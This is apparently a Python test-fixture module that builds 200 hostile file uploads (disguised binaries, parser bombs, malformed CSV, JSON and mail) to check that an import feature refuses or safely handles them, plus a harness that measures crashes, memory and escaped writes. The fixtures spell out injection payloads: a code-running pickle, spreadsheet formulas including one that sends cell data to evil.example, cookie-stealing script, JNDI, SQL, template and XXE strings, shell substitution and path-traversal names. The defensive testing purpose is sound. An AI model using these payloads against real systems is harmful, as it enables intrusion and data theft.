"""200 hostile uploads, made from a seed: what an import page must survive.

Each has a name, its bytes, why it is hostile, and what is to become of it: ``refused`` (a reason is
given and nothing is stored), ``harmless`` (taken, every row accounted for), or ``either`` where
both are right; whichever it is, nothing is written outside the Book, nothing else is read, and
memory stays small. Run as a program it adds those whose numbers it is given and prints what became
of each.
"""

from __future__ import annotations

import base64
import contextlib
import json
import pickle
import random
import resource
import shutil
import sys
import time
import traceback
from collections.abc import Iterator
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from typing import Any

import goodwill
from goodwill.book import Book
from goodwill.errors import GoodwillError
from hostile_archives import (
    EITHER,
    GOOD,
    HARMLESS,
    HEADER,
    MEGABYTE,
    REFUSED,
    Case,
    bombs,
    broken,
    names,
    one_member,
    parquets,
    workbooks,
)  # fmt: skip

CANARY = "what the neighbour wrote"
LONG = {"cell.parquet", "wide.parquet", "cell.csv.gz", "rows.csv.gz", "headers.mbox"}
"""Seconds to a minute each: for `make soak`."""


@dataclass(frozen=True)
class Upload:
    name: str
    data: bytes
    why: str
    expectation: str


class _Runs:
    """What a pickle would do when it is opened."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return eval, ("open('escaped.csv', 'w')",)


def files_in_disguise() -> Iterator[Case]:
    image = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk")
    yield "program.csv", b"\x7fELF\2\1\1" + bytes(9000), "a program", REFUSED
    yield "image.csv", image + bytes(500), "an image", REFUSED
    yield "image.jsonl", b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(900), "an image", REFUSED
    yield "image-of-text.csv", b"GIF89a,;\n" + GOOD, "an image that is a text", EITHER
    yield (
        "paper.csv",
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF",
        "a PDF",
        REFUSED,
    )
    both = b"%PDF-1.7\n1 0 obj\n" + one_member(b"a.csv", GOOD) + b"\n%%EOF"
    yield "paper-and-zip.csv", both, "a PDF that is a zip", REFUSED
    yield "base.csv", b"SQLite format 3\0" + bytes(4080), "a database", REFUSED
    yield "pickle.csv", pickle.dumps(_Runs()), "a pickle that runs a command", REFUSED
    yield "tape.csv", b"../../escaped.csv" + bytes(240) + b"ustar" + bytes(300), "a tar", REFUSED
    page = "<!doctype html><title>x</title><script>alert(1)</script>\n" * 50
    yield "page.csv", page.encode(), "a page with a script", REFUSED
    yield (
        "office.csv",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000),
        "an old document",
        REFUSED,
    )
    yield "zip.csv.gz", one_member(b"a.csv", GOOD), "a zip named gz", EITHER
    yield "csv.parquet", GOOD, "a CSV named Parquet", EITHER
    yield "csv.zip", GOOD, "a CSV named zip", EITHER


def shapes(chance: random.Random) -> Iterator[Case]:
    head, row = HEADER.encode(), b"1,C-1,2026-01-01 10:00,where is my parcel\n"
    wide = ",".join(f"c{n}" for n in range(200_000)).encode()
    yield "wide.csv", wide + b"\n", "200,000 columns", REFUSED
    yield "wide-rows.csv", head + row + b"," * 1_000_000 + b"\n", "a row of a million cells", EITHER
    yield (
        "steps.csv",
        head + b"".join(b"x," * n + b"\n" for n in range(1500)),
        "growing rows",
        EITHER,
    )
    cell = b'1,C-1,2026-01-01 10:00,"' + b"parcel " * 300_000 + b'"\n'
    yield "cell.csv", head + cell, "a cell of 2 MB", EITHER
    yield "line.csv", b"a" * (2 * MEGABYTE), "2 MB without a line end", REFUSED
    yield "open-quote.csv", head + row + b'2,C-2,2026-01-02,"' + row * 20_000, "open quote", EITHER
    yield "quotes.csv", head + row + b'"' * 1_000_001, "a million quotes", EITHER
    yield "delimiters.csv", b",;\t|" * 200_000, "nothing but delimiters", REFUSED
    yield "nuls.csv", bytes(100_000), "nothing but NUL", REFUSED
    yield "nul-inside.csv", head + row.replace(b"my", b"m\0y") + row, "NUL in a cell", EITHER
    yield "nothing.csv", b"", "nothing", REFUSED
    yield "mark.csv", b"\xef\xbb\xbf", "nothing but a byte order mark", REFUSED
    yield (
        "odd.csv",
        b"\xff\xfe" + GOOD.decode().encode("utf-16-le") + b"\x41",
        "half a letter",
        EITHER,
    )
    lone = b"\xff\xfe" + (HEADER + "1,C-1,2026-01-01,").encode("utf-16-le") + b"\0\xd8\0\xd8\n\0"
    yield "lone.csv", lone, "UTF-16 with half pairs", EITHER
    yield "endless.csv", b"\xfe\xff" + b"\0a" * 500_000, "UTF-16 without a line end", REFUSED
    yield "utf-7.csv", head + b"1,C-1,2026-01-01 10:00,+ADw-script+AD4-\n", "UTF-7", HARMLESS
    yield "overlong.csv", head + b"1,C-1,2026-01-01 10:00,\xc0\xaf\xc0\xae\n", "overlong", EITHER
    yield "noise.csv", chance.randbytes(200_000), "noise", REFUSED
    yield "noise-inside.csv", head + row * 20 + chance.randbytes(5000), "noise after rows", EITHER
    for n, (name, why) in enumerate((
        ("x'); DROP TABLE contacts; --", "SQL"), ('a"b"; SELECT 1; --', "quotes and SQL"),
        ("{{ 7*7 }}{% debug %}", "a template"), ("<img src=x onerror=alert(1)>", "a script"),
        ("=cmd|' /C calc'!A0", "a command"), ("row_hash", "a column of the house"),
        ("contacts_at", "an expression's name"),
        ("{0.__class__.__mro__}", "a format"), ("message\u200b", "an invisible letter"),
        ("x" * 500_000, "half a million letters"), ("MESSAGE", "another's name in capitals"),
    )):  # fmt: skip
        quoted = '"' + name.replace('"', '""') + '"'
        text = (
            f"message id,customer id,created at,message,{quoted}\n1,C-1,2026-01-01 10:00,late,7\n"
        )
        expected = (
            EITHER if len(name) > 1000 or name.strip("\u200b").lower() == "message" else HARMLESS
        )
        yield f"header-{n}.csv", text.encode(), f"a header with {why}", expected


CELLS = (
    "=cmd|' /C calc'!A0", "+1+cmd|'x'!A0", "-2+3+cmd|'x'!A0", "@SUM(1+1)*cmd|'x'!A0",
    "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "<script>alert(document.cookie)</script>", '"><svg/onload=alert(1)>', 
    "{{ config.items() }}", "{% include '/etc/passwd' %}", "${jndi:ldap://127.0.0.1:9/a}",
    "'; DROP TABLE contacts; --", "$(touch escaped.csv)`touch escaped.csv`",
    "\x1b]0;owned\x07\x1b[2J", "\u202egnp.exe", "a" + "\u0301" * 20_000, 
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
)  # fmt: skip
SLOW = (
    "a@" * 60_000, "0 " * 80_000, "1-" * 60_000, "." * 120_000, "john at " * 15_000,
    "Aa " * 40_000, "ES" + "12 " * 40_000, "> " * 60_000,
)  # fmt: skip


def cells() -> Iterator[Case]:
    for n, cell in enumerate(CELLS):
        quoted = '"' + cell.replace('"', '""') + '"'
        text = f"{HEADER}1,C-1,2026-01-01 10:00,{quoted}\n2,{quoted},2026-01-01 10:00,late\n"
        yield f"cell-{n}.csv", text.encode(), f"cells with {cell[:30]!r}", HARMLESS
    for n, cell in enumerate(SLOW):
        text = f"{HEADER}1,C-1,2026-01-01 10:00,{cell}\n2,C-2,2026-01-01 11:00,late again\n"
        yield f"slow-{n}.csv", text.encode(), f"slow for patterns: {cell[:10]!r}", HARMLESS
    amounts = "order number,customer id,order date,total,currency\n"
    for n, cell in enumerate(("1e400", "9" * 5000, "NaN")):
        text = f"{amounts}A-1,C-1,2026-01-01,{cell},EUR\nA-2,C-1,2026-01-02,10.00,EUR\n"
        yield f"amount-{n}.csv", text.encode(), f"an amount of {cell[:10]}", HARMLESS
    for n, cell in enumerate(("99999-12-31 10:00", "0000-00-00 00:00", "1e30")):
        text = f"{HEADER}1,C-1,{cell},late\n2,C-1,2026-01-02 10:00,late\n3,C-1,2026-01-03 10:00,x\n"
        yield f"time-{n}.csv", text.encode(), f"a time of {cell}", EITHER


def objects() -> Iterator[Case]:
    row = {
        "message id": "1",
        "customer id": "C-1",
        "created at": "2026-01-01 10:00",
        "message": "x",
    }
    good = json.dumps(row)
    yield "arrays.json", b"[" * 1_000_000, "a million brackets", REFUSED
    yield "arrays-shut.json", b"[" * 500_000 + b"]" * 500_000, "half a million, shut", REFUSED
    yield "objects.json", b'{"a":' * 300_000, "300,000 objects in objects", REFUSED
    deep = good[:-1] + ',"deep":' + "[" * 200_000 + "]" * 200_000 + "}"
    yield "deep.jsonl", f"{good}\n{deep}\n".encode(), "a row of 200,000 brackets", EITHER
    twice = good[:-1] + ',"message":"second","message id":"9"}'
    yield "twice.jsonl", f"{twice}\n{good}\n".encode(), "keys that come twice", EITHER
    for name, value in (
        ("nan", "NaN"), ("infinity", "-Infinity"), ("huge", "9" * 100_000),
        ("half", '"\\ud800"'), ("nul", '"\\u0000"'),
    ):  # fmt: skip
        line = good[:-1] + f',"rating":{value}}}'
        yield f"{name}.jsonl", f"{line}\n{good}\n".encode(), f"a value of {value[:12]}", EITHER
    keys = ",".join(f'"k{n}":1' for n in range(150_000))
    yield "keys.json", f"[{{{keys}}}]".encode(), "an object of 150,000 keys", REFUSED
    lines = "".join(good[:-1] + f',"k{n}":1}}\n' for n in range(15_000))
    yield "new-keys.jsonl", lines.encode(), "a new key in each of 15,000 rows", EITHER
    yield "empty.jsonl", b"{}\n" * 200_000, "200,000 empty objects", REFUSED
    yield "proto.jsonl", f'{good[:-1]},"__proto__":{{"a":1}},"":2}}\n'.encode(), "odd keys", EITHER
    yield "cut.json", f"[{good},{good[:40]}".encode(), "an array cut off", EITHER
    odd = json.dumps({**row, "message": {"a": ["b", None]}, "message id": [1, 2]})
    yield "kinds.jsonl", f"{good}\n{odd}\n".encode(), "lists where texts should be", EITHER


def mails() -> Iterator[Case]:
    head = (
        "From: A <a@mail.example>\nTo: help@acme.example\nDate: Mon, 3 Mar 2025 10:00:00 +0000\n"
        "Message-ID: <x@mail.example>\nSubject: late\n"
    )
    start = "From a@mail.example Mon Mar  3 10:00:00 2025\n" + head
    many = "".join(f"X-{n}: a\n" for n in range(200_000))
    yield "headers.mbox", f"{start}{many}\nlate\n".encode(), "200,000 headers", EITHER
    long = f"{start}X-Long: {'a' * 2_000_000}\n\nlate\n"
    yield "long.mbox", long.encode(), "a header of 2 MB", EITHER
    deep = "".join(
        f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(20_000)
    )
    yield (
        "deep.eml",
        f"{head}MIME-Version: 1.0\n{deep}\nlate\n".encode(),
        "20,000 parts deep",
        EITHER,
    )
    inside = "Content-Type: message/rfc822\n\n" * 20_000
    yield (
        "inside.eml",
        f"{head}MIME-Version: 1.0\n{inside}late\n".encode(),
        "mails in mails",
        EITHER,
    )
    parts = "--b\nContent-Type: text/plain\n\nlate\n" * 20_000
    mixed = f'{head}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n'
    yield "parts.eml", f"{mixed}{parts}--b--\n".encode(), "20,000 parts", EITHER
    files = "".join(
        f'--b\nContent-Disposition: attachment; filename="{name}"\n\nescaped\n'
        for name in ("../../escaped.csv", "/tmp/escaped.csv", "C:\\escaped.csv", "a\0b.csv")
    )
    text = "--b\nContent-Type: text/plain\n\nwhere is my parcel\n"
    yield "files.eml", f"{mixed}{text}{files}--b--\n".encode(), "attachments named by paths", EITHER
    no = f'{head}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=""\n\nlate\n'
    yield "boundary.eml", no.encode(), "an empty boundary", EITHER
    lost = f"{head}Content-Type: text/plain; charset=x-none\n\nwhere is my parcel\n"
    yield "charset.eml", lost.encode(), "an unknown alphabet", EITHER
    words = head.replace("late", "=?utf-8?q?" + "=41" * 300_000 + "?=")
    yield "words.eml", f"{words}\nlate\n".encode(), "an encoded word of 900 kB", EITHER
    many = start + "\nlate\n\n"
    yield "count.mbox", (many * 4000).encode(), "4,000 times the same mail", EITHER
    index = "".join(f";\n name*{n}=a" for n in range(50_000))
    params = f"{head}Content-Type: text/plain{index}\n\nlate\n"
    yield "params.eml", params.encode(), "a parameter in 50,000 pieces", EITHER
    when = head.replace("3 Mar 2025 10:00:00 +0000", "99 Foo 99999 99:99:99 +9999")
    yield "date.eml", f"{when}\nlate\n".encode(), "a date that is none", EITHER


def own_names() -> Iterator[Case]:
    for name in (
        "*.csv", "[a-z]*.csv", "$(touch escaped).csv", "';DROP TABLE contacts;--.csv",
        "<script>alert(1)<\\script>.csv", "a\nb\x1b[31m.csv", "gnp.\u202evsc.csv", "-rf.csv",
        "..%2f..%2fescaped.csv", "C:\\escaped.csv", "x" * 250 + ".csv", "#?a=b.csv",
    ):  # fmt: skip
        yield name, GOOD, f"a file named {name[:30]!r}", HARMLESS
    yield "a\0b.csv", GOOD, "a name with NUL", REFUSED
    yield "x" * 400 + ".csv", GOOD, "a name too long for the disk", REFUSED


@lru_cache
def uploads(seed: int = 7) -> tuple[Upload, ...]:
    """Return the 200 uploads; the same seed gives the same bytes."""
    chance = random.Random(seed)
    makers = (
        bombs(), names(), broken(), workbooks(), parquets(chance), files_in_disguise(),
        shapes(chance), cells(), objects(), mails(), own_names(),
    )  # fmt: skip
    return tuple(Upload(*case) for maker in makers for case in maker)


def listing(folder: Path, *, but: str = "") -> dict[str, int]:
    """Return the size of each file under a folder."""
    files = {str(path.relative_to(folder)): path for path in sorted(folder.rglob("*"))}
    return {
        name: path.lstat().st_size
        for name, path in files.items()
        if not (but and name.startswith(but)) and not path.is_dir() and path.name != "lock"
    }


def peak_megabytes() -> float:
    """Return the most memory that this process has held since it was last asked, and start anew."""
    status = Path("/proc/self/status").read_text()
    held = int(status.split("VmHWM:")[1].split()[0]) / 1024
    Path("/proc/self/clear_refs").write_text("5")
    return held


def outcome(book: Book, folder: Path, number: int, upload: Upload) -> dict[str, Any]:
    """Add one upload to a Book and say what became of it."""
    place = folder / "uploads" / f"{number:03}"
    place.mkdir(parents=True)
    path = place / upload.name
    # A name that no disk holds is passed on all the same.
    with contextlib.suppress(OSError, ValueError):
        path.write_bytes(upload.data)
    (place / "neighbour.csv").write_text(f"{HEADER}666,C-666,2026-01-01 10:00,{CANARY}\n")
    inside, outside = listing(book.folder), listing(folder, but="book")
    peak_megabytes()
    started = time.monotonic()
    said: dict[str, Any] = {}
    try:
        reports = book.add(path)
    except GoodwillError as refused:
        said |= {"became": "refused", "reason": str(refused)}
    except BaseException as crashed:
        said |= {
            "became": "crashed",
            "reason": "".join(traceback.format_exception(crashed))[-3000:],
        }
    else:
        rows = [[r.read, r.new + r.updated + r.duplicate + r.quarantined] for r in reports]
        said |= {"became": "taken", "rows": rows, "reason": ""}
    said["seconds"] = round(time.monotonic() - started, 2)
    said["megabytes"] = peak_megabytes()
    said["stored"] = listing(book.folder) != inside
    said["escaped"] = sorted(set(listing(folder, but="book").items()) ^ set(outside.items()))
    shutil.rmtree(place)
    return said


def main(folder: Path, numbers: list[int]) -> None:
    resource.setrlimit(resource.RLIMIT_AS, (12 << 30, 12 << 30))
    resource.setrlimit(resource.RLIMIT_FSIZE, (2 << 30, 2 << 30))
    here = folder / "book"
    book = goodwill.open(here) if here.exists() else goodwill.create(here)
    for number in numbers:
        print(json.dumps(outcome(book, folder, number, uploads()[number])), flush=True)


if __name__ == "__main__":
    main(Path(sys.argv[1]), [int(number) for number in sys.argv[2:]])
